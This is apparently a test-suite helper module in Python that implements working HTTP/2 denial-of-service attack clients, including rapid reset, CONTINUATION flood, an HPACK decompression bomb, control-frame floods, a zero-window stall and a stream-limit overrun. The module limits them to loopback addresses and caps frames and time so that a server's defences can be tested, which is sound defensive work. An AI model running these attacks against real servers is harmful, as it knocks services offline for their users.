"""HTTP/2 attack clients for the integration suite, written frame by frame.

Each attack is a function attack(port, **params) -> dict that opens ONE connection to
a loopback address (anything else is refused), misbehaves in a bounded way (at most
max_frames / max_streams / bombs frames or streams, and at most max_seconds), watches
how the server reacts (GOAWAY, RST_STREAM, close) and always closes its socket. The
returned dict is JSON: what was sent, the first GOAWAY (code, name, last stream id),
the resets seen, whether and when (seconds after the first attack frame) the server
sent GOAWAY or closed the connection.

  rapid_reset          HEADERS + RST_STREAM(CANCEL) pairs in a tight loop (CVE-2023-44487)
  continuation_flood   HEADERS without END_HEADERS, then CONTINUATION frames without end
  hpack_bomb           a header block that inserts one 4000-byte literal into the dynamic
                       table and then references it ~12000 times (~48 MB decoded from 16 KB)
  settings_flood, ping_flood, priority_flood, window_update_flood
                       control frames as fast as the socket takes them (the server's ACKs
                       are read, so only its own limits can stop the flood)
  zero_window          SETTINGS_INITIAL_WINDOW_SIZE=0, ask for a large body, never open the window
  too_many_streams     more HEADERS than SETTINGS_MAX_CONCURRENT_STREAMS, sent right after the
                       preface before the server's SETTINGS could be read

flood_frame(kind, i) is the i-th frame of a control-frame flood, for tests that send a few of
them by hand. When a write fails (the server closed, with a reset if our frames were still
unread) what the server sent before, its GOAWAY, is still read from the receive queue.

repeat(name, seconds, max_connections, **params) runs one attack on fresh connections
until `seconds` have passed (at least once, at most max_connections times). Run as a
script (`python3 h2attacks.py NAME --port P --seconds S --max-connections N --params JSON`)
it prints repeat()'s dict as JSON: the suite runs attacks in a child process so that
the attacker's CPU time does not share the test process's GIL with the latency probe
and the test origin. Header blocks are encoded by hand (HPACK literals, no Huffman, no
dynamic table except in the bomb) so no encoder state can disagree with the frames; the
server's header blocks are decoded with hpack to keep its dynamic table in step.
"""

import argparse
import ipaddress
import json
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6

ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, STREAM_CLOSED, \
    FRAME_SIZE_ERROR, REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, CONNECT_ERROR, ENHANCE_YOUR_CALM, \
    INADEQUATE_SECURITY, HTTP_1_1_REQUIRED = range(14)

DEFAULT_MAX_FRAME = 16384


def error_name(code):
    return ERRORS[code] if 0 <= code < len(ERRORS) else "0x%x" % code


# ---- frames and HPACK by hand ----------------------------------------------------

def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + \
        struct.pack(">I", sid & 0x7FFFFFFF) + payload


def settings_frame(settings=None):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in (settings or {}).items()))


def hpack_int(value, prefix_bits, first=0):
    """RFC 7541 5.1 integer with an N-bit prefix; `first` holds the pattern bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s  # H bit 0: no Huffman


def literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed(name, value):
    """Literal header field with incremental indexing, new name (RFC 7541 6.2.1)."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def request_block(method="GET", path="/", authority="example.com", scheme="http", extra=()):
    """A request header block with no dynamic-table effect."""
    b = literal(b":method", method.encode()) + literal(b":scheme", scheme.encode()) + \
        literal(b":authority", authority.encode()) + literal(b":path", path.encode())
    for n, v in extra:
        b += literal(n.encode() if isinstance(n, str) else n, v.encode() if isinstance(v, str) else v)
    return b


def headers_frame(sid, block, end_stream=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid, block)


# ---- one raw connection -----------------------------------------------------------

class RawH2:
    """A client connection that sends whatever frames it is given and parses what the server
    sends back (GOAWAY, RST_STREAM, response heads, DATA lengths, SETTINGS, PING)."""

    def __init__(self, port, host="127.0.0.1", tls=False, server_name=None, settings=None,
                 timeout=5.0, ack_settings=True, send_preface=True):
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError("attacks run against loopback addresses only, not %r" % host)
        self.timeout = timeout
        s = socket.create_connection((host, port), timeout=timeout)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            try:
                s = ctx.wrap_socket(s, server_hostname=server_name)
            except BaseException:
                s.close()
                raise
            if s.selected_alpn_protocol() != "h2":
                s.close()
                raise ConnectionError("ALPN selected %r, not h2" % s.selected_alpn_protocol())
        self.sock = s
        self.scheme = "https" if tls else "http"
        self.buf = bytearray()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 20
        self.block = None                 # [sid, end_stream, bytearray] while a header block arrives
        self.ack_settings = ack_settings
        self.pending_acks = 0
        self.server_settings = {}
        self.server_settings_seen = False
        self.settings_acks = 0
        self.ping_acks = 0
        self.window_updates = 0
        self.goaways = []                 # [(code, last stream id, debug bytes, t)]
        self.rst = {}                     # sid -> error code
        self.heads = {}                   # sid -> [header lists], the last one the final head or trailers
        self.ended = set()
        self.data = {}                    # sid -> DATA bytes received
        self.violation = None             # what we could not parse
        self.closed = False
        self.send_stalled = False
        self.send_failed = False
        self.frames_sent = 0
        self.bytes_sent = 0
        self.t_open = time.monotonic()
        self.t_attack = None
        self.t_closed = None
        if send_preface:
            ours = {SETTINGS_ENABLE_PUSH: 0}
            ours.update(settings or {})
            self.send(PREFACE + settings_frame(ours))

    # ---- output ----
    def send(self, data, frames=0, timeout=None):
        """sendall with a deadline; False (and nothing more is sent) once the connection is
        closed or the server has stopped reading for `timeout` seconds."""
        if self.closed or self.send_stalled:
            return False
        self.sock.settimeout(timeout or self.timeout)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.send_stalled = True
            return False
        except (OSError, ssl.SSLError):
            # the server closed (a reset when it closed with our frames unread): what it sent
            # before, a GOAWAY for one, may still wait in our receive queue
            self.send_failed = True
            self._drain_after_error()
            return False
        self.frames_sent += frames
        self.bytes_sent += len(data)
        return True

    def mark(self):
        """The attack starts now: reaction times are measured from here."""
        self.t_attack = time.monotonic()

    def ack_pending_settings(self):
        n, self.pending_acks = self.pending_acks, 0
        if n:
            self.send(frame(SETTINGS, ACK, 0) * n)

    # ---- input ----
    def _drain_after_error(self):
        self.sock.settimeout(0.0)
        while True:
            try:
                d = self.sock.recv(262144)
            except (OSError, ssl.SSLError):  # would block, or the reset itself
                break
            if not d:
                break
            self.buf += d
            self._parse()
        self._mark_closed()

    def _mark_closed(self):
        if not self.closed:
            self.closed = True
            self.t_closed = time.monotonic()

    def poll(self, timeout=0.0):
        """Wait up to timeout for the first bytes, then read what is already there; parse it.
        False once the connection is closed."""
        if self.closed:
            return False
        wait = timeout
        while True:
            self.sock.settimeout(wait if wait > 0 else 0.0)
            try:
                d = self.sock.recv(262144)
            except (socket.timeout, BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except (OSError, ssl.SSLError):
                self._mark_closed()
                break
            if not d:
                self._mark_closed()
                break
            self.buf += d
            self._parse()
            wait = 0
        return not self.closed

    def wait(self, pred, timeout):
        """Poll until pred() is true, the connection closes, or timeout. Returns pred()."""
        deadline = time.monotonic() + timeout
        while not pred() and not self.closed:
            left = deadline - time.monotonic()
            if left <= 0:
                break
            self.poll(min(left, 0.1))
        return pred()

    def finish(self, linger):
        """After the attack: wait up to linger seconds for the server to close the connection."""
        self.wait(lambda: False, linger)

    def _parse(self):
        b = self.buf
        while len(b) >= 9 and self.violation is None:
            length = int.from_bytes(b[0:3], "big")
            if len(b) < 9 + length:
                break
            ftype, flags = b[3], b[4]
            sid = int.from_bytes(b[5:9], "big") & 0x7FFFFFFF
            payload = bytes(b[9:9 + length])
            del b[:9 + length]
            try:
                self._frame(ftype, flags, sid, payload)
            except Exception as e:  # noqa: BLE001 - a server bug to report, not a crash here
                self.violation = "%r on frame type %d stream %d" % (e, ftype, sid)

    def _frame(self, ftype, flags, sid, p):
        if ftype == DATA:
            self.data[sid] = self.data.get(sid, 0) + len(p)
            if flags & END_STREAM:
                self.ended.add(sid)
        elif ftype == HEADERS:
            if flags & PADDED:
                p = p[1:len(p) - p[0]]
            if flags & PRIORITY_FLAG:
                p = p[5:]
            self.block = [sid, bool(flags & END_STREAM), bytearray(p)]
            if flags & END_HEADERS:
                self._end_block()
        elif ftype == CONTINUATION:
            if self.block is None or self.block[0] != sid:
                raise ValueError("CONTINUATION without a header block")
            self.block[2] += p
            if flags & END_HEADERS:
                self._end_block()
        elif ftype == RST_STREAM:
            self.rst[sid] = struct.unpack(">I", p[:4])[0]
        elif ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.server_settings_seen = True
                for i in range(0, len(p) - 5, 6):
                    k, v = struct.unpack(">HI", p[i:i + 6])
                    self.server_settings[k] = v
                self.pending_acks += 1
                if self.ack_settings:
                    self.ack_pending_settings()
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            else:
                self.send(frame(PING, ACK, 0, p))
        elif ftype == GOAWAY:
            last, code = struct.unpack(">II", p[:8])
            self.goaways.append((code, last & 0x7FFFFFFF, p[8:], time.monotonic()))
        elif ftype == WINDOW_UPDATE:
            self.window_updates += 1
        elif ftype == PUSH_PROMISE:
            raise ValueError("PUSH_PROMISE although SETTINGS_ENABLE_PUSH is 0")

    def _end_block(self):
        sid, end_stream, block = self.block
        self.block = None
        self.heads.setdefault(sid, []).append([(n, v) for n, v in self.dec.decode(bytes(block))])
        if end_stream:
            self.ended.add(sid)

    # ---- state ----
    @property
    def goaway(self):
        return self.goaways[0] if self.goaways else None

    def status(self, sid):
        for head in self.heads.get(sid, []):
            d = dict(head)
            if ":status" in d and not d[":status"].startswith("1"):
                return int(d[":status"])
        return None

    def wait_handshake(self, timeout=2.0):
        return self.wait(lambda: self.server_settings_seen, timeout)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass

    def result(self, **extra):
        t0 = self.t_attack or self.t_open
        g = self.goaway
        r = {
            "goaway": None if g is None else {"code": g[0], "name": error_name(g[0]), "last_stream_id": g[1],
                                              "debug": g[2][:200].decode("latin-1")},
            "goaway_codes": [x[0] for x in self.goaways],
            "t_goaway": None if g is None else round(g[3] - t0, 4),
            "closed": self.closed,
            "t_closed": None if self.t_closed is None else round(self.t_closed - t0, 4),
            "send_stalled": self.send_stalled,
            "send_failed": self.send_failed,
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "rst": sorted([sid, code] for sid, code in self.rst.items()),
            "statuses": sorted([sid, self.status(sid)] for sid in self.heads),
            "data": sorted([sid, n] for sid, n in self.data.items()),
            "ended": sorted(self.ended),
            "server_settings": {str(k): v for k, v in self.server_settings.items()},
            "settings_acks": self.settings_acks,
            "ping_acks": self.ping_acks,
            "violation": self.violation,
        }
        stopped = [t for t in (r["t_goaway"], r["t_closed"]) if t is not None]
        r["t_reaction"] = min(stopped) if stopped else None
        r.update(extra)
        return r


def _conn_args(kw):
    return {k: kw.pop(k) for k in ("host", "tls", "server_name", "timeout") if k in kw}


# ---- the attacks ------------------------------------------------------------------

def _flood(port, make, max_frames, max_seconds, batch, linger, kw):
    """Send make(i) frames in batches until the server sends GOAWAY or closes, or a bound hits."""
    c = RawH2(port, **_conn_args(kw))
    try:
        c.wait_handshake()
        c.mark()
        deadline = c.t_attack + max_seconds
        i = 0
        while i < max_frames and not c.goaways and not c.closed and time.monotonic() < deadline:
            n = min(batch, max_frames - i)
            if not c.send(b"".join(make(i + k) for k in range(n)), frames=n):
                break
            i += n
            c.poll(0)
        c.finish(linger)
        return c.result(frames=i)
    finally:
        c.close()


def rapid_reset(port, path="/", authority="example.com", max_streams=5000, max_seconds=3.0, batch=10,
                linger=2.0, **kw):
    scheme = "https" if kw.get("tls") else "http"
    block = request_block("GET", path, authority, scheme)
    cancel = struct.pack(">I", CANCEL)

    def make(i):
        sid = 1 + 2 * i
        return headers_frame(sid, block) + frame(RST_STREAM, 0, sid, cancel)
    r = _flood(port, make, max_streams, max_seconds, batch, linger, kw)
    r["streams"] = r.pop("frames")
    return r


def continuation_flood(port, path="/", authority="example.com", max_frames=20000, max_seconds=3.0,
                       batch=50, linger=2.0, empty=False, **kw):
    """HEADERS (stream 1, no END_HEADERS), then CONTINUATION frames that never end the block,
    each one carrying a small literal header (or nothing with empty=True)."""
    scheme = "https" if kw.get("tls") else "http"
    c = RawH2(port, **_conn_args(kw))
    try:
        c.wait_handshake()
        c.mark()
        c.send(frame(HEADERS, END_STREAM, 1, request_block("GET", path, authority, scheme)), frames=1)
        deadline = c.t_attack + max_seconds
        i = 0
        while i < max_frames and not c.goaways and not c.closed and time.monotonic() < deadline:
            n = min(batch, max_frames - i)
            frames = b"".join(frame(CONTINUATION, 0, 1,
                                    b"" if empty else literal(b"x-c%06d" % (i + k), b"cccccccc"))
                              for k in range(n))
            if not c.send(frames, frames=n):
                break
            i += n
            c.poll(0)
        c.finish(linger)
        return c.result(continuations=i)
    finally:
        c.close()


def hpack_bomb(port, path="/echo", authority="example.com", bombs=20, value_len=4000, refs=None, name="x-bomb",
               max_seconds=5.0, per_bomb_wait=2.0, follow_up="/echo/follow-up", linger=0.3, **kw):
    """Each bomb is one HEADERS frame (END_HEADERS, END_STREAM): the request pseudo-headers, a literal
    header `name` of value_len bytes with incremental indexing (dynamic index 62) and then index 62
    repeated `refs` times (default: as many as fill the 16 KiB frame). After the bombs, if the
    connection is still open, one normal GET follow_up (a path, or None for none) on it shows
    whether the server's HPACK state survived. A small `refs` makes a header list of a chosen
    decoded size, (refs + 1) x (len(name) + value_len + 32) bytes plus the pseudo-headers, to probe
    a limit."""
    scheme = "https" if kw.get("tls") else "http"
    c = RawH2(port, **_conn_args(kw))
    outcomes = []
    decoded = 0
    try:
        c.wait_handshake()
        c.mark()
        deadline = c.t_attack + max_seconds
        head = request_block("GET", path, authority, scheme)
        lit = literal_indexed(name.encode(), b"b" * value_len)
        if refs is None:
            refs = DEFAULT_MAX_FRAME - len(head) - len(lit)
        entry = len(name) + value_len + 32
        sid = 1
        for k in range(bombs):
            if c.closed or c.goaways or time.monotonic() > deadline:
                break
            sid = 1 + 2 * k
            if not c.send(headers_frame(sid, head + lit + b"\xbe" * refs), frames=1):
                break
            decoded += (refs + 1) * entry
            c.wait(lambda: sid in c.rst or c.status(sid) is not None or bool(c.goaways),
                   min(per_bomb_wait, max(0.05, deadline - time.monotonic())))
            outcomes.append({"stream": sid, "rst": c.rst.get(sid), "status": c.status(sid)})
        follow = None
        if follow_up and not c.closed and not c.goaways:
            fsid = sid + 2
            c.send(headers_frame(fsid, request_block("GET", follow_up, authority, scheme)), frames=1)
            c.wait(lambda: fsid in c.ended or fsid in c.rst or bool(c.goaways), 3.0)
            follow = {"stream": fsid, "status": c.status(fsid), "rst": c.rst.get(fsid), "ended": fsid in c.ended}
        c.finish(linger)
        return c.result(bombs=len(outcomes), outcomes=outcomes, follow_up=follow,
                        block_bytes=DEFAULT_MAX_FRAME, decoded_bytes_per_bomb=(refs + 1) * entry,
                        decoded_bytes=decoded)
    finally:
        c.close()


def flood_frame(kind, i):
    """The i-th frame of a control-frame flood of `kind` (settings_flood, ping_flood, priority_flood,
    window_update_flood); each is valid on its own."""
    if kind == "settings_flood":  # values that change nothing
        return frame(SETTINGS, 0, 0,
                     struct.pack(">HIHI", SETTINGS_HEADER_TABLE_SIZE, 4096, SETTINGS_ENABLE_PUSH, 0))
    if kind == "ping_flood":
        return frame(PING, 0, 0, struct.pack(">Q", i))
    if kind == "priority_flood":  # ever new idle streams: state an RFC 7540 server keeps
        return frame(PRIORITY, 0, 1 + 2 * i, struct.pack(">IB", 0, 15))
    if kind == "window_update_flood":  # increments of 1 on the connection: valid, useless
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    raise ValueError(kind)


def settings_flood(port, max_frames=5000, max_seconds=3.0, batch=50, linger=2.0, **kw):
    return _flood(port, lambda i: flood_frame("settings_flood", i), max_frames, max_seconds, batch, linger, kw)


def ping_flood(port, max_frames=5000, max_seconds=3.0, batch=50, linger=2.0, **kw):
    return _flood(port, lambda i: flood_frame("ping_flood", i), max_frames, max_seconds, batch, linger, kw)


def priority_flood(port, max_frames=5000, max_seconds=3.0, batch=50, linger=2.0, **kw):
    return _flood(port, lambda i: flood_frame("priority_flood", i), max_frames, max_seconds, batch, linger, kw)


def window_update_flood(port, max_frames=5000, max_seconds=3.0, batch=50, linger=2.0, **kw):
    return _flood(port, lambda i: flood_frame("window_update_flood", i), max_frames, max_seconds, batch,
                  linger, kw)


def zero_window(port, path="/download?n=8388608", authority="example.com", max_seconds=6.0, **kw):
    """Announce a zero stream window, ask for a large body, never send WINDOW_UPDATE, and wait
    (at most max_seconds) for the server to give up on the connection."""
    scheme = "https" if kw.get("tls") else "http"
    c = RawH2(port, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0}, **_conn_args(kw))
    try:
        c.wait_handshake()
        c.mark()
        c.send(headers_frame(1, request_block("GET", path, authority, scheme)), frames=1)
        c.wait(lambda: False, max_seconds)
        return c.result(status=c.status(1), body_bytes=c.data.get(1, 0))
    finally:
        c.close()


def too_many_streams(port, path="/slow?before_ms=300", authority="example.com", streams=30,
                     max_seconds=5.0, **kw):
    """Preface, SETTINGS and `streams` requests in one write, before reading anything (so before
    the server's SETTINGS_MAX_CONCURRENT_STREAMS could be known), then read every answer."""
    scheme = "https" if kw.get("tls") else "http"
    c = RawH2(port, ack_settings=False, send_preface=False, **_conn_args(kw))
    try:
        block = request_block("GET", path, authority, scheme)
        sids = [1 + 2 * i for i in range(streams)]
        c.mark()
        c.send(PREFACE + settings_frame({SETTINGS_ENABLE_PUSH: 0}) +
               b"".join(headers_frame(s, block) for s in sids), frames=streams + 1)
        c.ack_settings = True
        c.ack_pending_settings()
        c.wait(lambda: all(s in c.rst or s in c.ended for s in sids) or bool(c.goaways), max_seconds)
        c.poll(0.05)
        refused = [s for s in sids if c.rst.get(s) == REFUSED_STREAM]
        completed = [s for s in sids if s in c.ended and c.status(s) == 200]
        return c.result(streams=streams, refused=refused, completed=completed,
                        max_concurrent_streams=c.server_settings.get(SETTINGS_MAX_CONCURRENT_STREAMS))
    finally:
        c.close()


ATTACKS = {f.__name__: f for f in (rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
                                   priority_flood, window_update_flood, zero_window, too_many_streams)}


def repeat(name, seconds, max_connections, **params):
    """Run attack `name` on fresh connections for `seconds` (at least once, at most max_connections)."""
    fn = ATTACKS[name]
    t0 = time.monotonic()
    runs = []
    while len(runs) < max_connections and (not runs or time.monotonic() - t0 < seconds):
        t = time.monotonic()
        try:
            r = fn(**params)
        except Exception as e:  # noqa: BLE001 - reported to the test, which fails on it
            r = {"error": repr(e)}
        r["t_begin"] = t
        runs.append(r)
    return {"attack": name, "t_start": t0, "t_end": time.monotonic(), "runs": runs}


def main(argv):
    ap = argparse.ArgumentParser(description="run one bounded HTTP/2 attack against a loopback port")
    ap.add_argument("name", choices=sorted(ATTACKS))
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--seconds", type=float, default=0.0, help="keep attacking on new connections this long")
    ap.add_argument("--max-connections", type=int, default=1)
    ap.add_argument("--params", default="{}", help="JSON object of keyword arguments for the attack")
    a = ap.parse_args(argv)
    params = json.loads(a.params)
    params["port"] = a.port
    json.dump(repeat(a.name, a.seconds, a.max_connections, **params), sys.stdout)
    sys.stdout.write("\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
